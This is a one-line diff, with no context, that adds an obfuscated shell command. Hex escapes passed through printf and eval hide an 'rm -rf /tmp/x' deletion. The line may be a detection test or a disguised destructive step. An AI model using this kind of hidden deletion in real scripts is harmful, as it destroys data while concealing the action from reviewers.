@@ -1,0 +1,1 @@
+eval $(printf '\x72\x6d\x20\x2d\x72\x66 /tmp/x')
